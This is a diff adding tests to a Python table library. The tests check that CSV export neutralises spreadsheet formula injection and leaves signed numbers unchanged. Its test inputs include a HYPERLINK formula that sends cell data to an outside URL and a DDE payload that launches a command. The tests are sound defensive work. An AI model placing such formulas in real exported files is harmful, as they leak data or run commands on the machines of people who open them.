@@ -1,8 +1,13 @@
 """One table: aligned for a terminal, safe in Markdown, on a page the same cells."""
 
+import csv
+import io
+
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from losslab import escaping
 from losslab.report.page import environment
 from losslab.tables import Column, Table, left, name, pairs
 from losslab.words import both_ends, width
@@ -52,3 +57,27 @@ def test_any_cell_is_one_line_that_ends_nothing(rows, columns):
 def test_both_ends_of_a_name_are_kept(text, columns):
     shown = both_ends(text, columns)
     assert width(shown) <= columns and (shown == text) == (width(text) <= columns or shown == "…" == text)
+
+
+@pytest.mark.parametrize("text", [
+    '=HYPERLINK("http://example.org/?x="&A1,"nll")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-A1", "-inf",
+    "--opt", "\t=1", "\r=1", "\n=1", " =1", "＝1", "-1 [=A1, 2]", "-0.5 x", "-1\n=1", "-", "+١",
+])
+def test_text_that_a_spreadsheet_would_compute_is_marked_as_text(text):
+    marked = "'" + text.replace("\r", "\n")
+    assert escaping.cell(text) == marked
+    table = Table((name(text), Column("nll")), [(text, "1.5")])
+    assert list(csv.reader(io.StringIO(table.csv(), newline=""))) == [[marked, "nll"], [marked, "1.5"]]
+
+
+@pytest.mark.parametrize("value", [
+    "-0.5", "+1,234.5", "-2.00e+07", "+0.0017 [-0.0044, 0.0079]", "+0.0121 [+0.0098, +0.0144]", "-0.5 ± 0.1 (n=4)",
+    "-1.5 %", "–", "", "1-1", "a=b", "'=1", "cross_entropy + 0.0001*z_loss", -0.5, None, True,
+])
+def test_numbers_with_a_sign_and_other_text_stay_as_they_are(value):
+    assert escaping.cell(value) == value and type(escaping.cell(value)) is type(value)
+
+
+def test_a_carriage_return_begins_no_row():
+    text = Table((name("loss"), Column("nll")), [("mse\r=1+1", "1.5"), ("a\r\nb", "2")]).csv()
+    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [["mse\n=1+1", "1.5"], ["a\nb", "2"]]
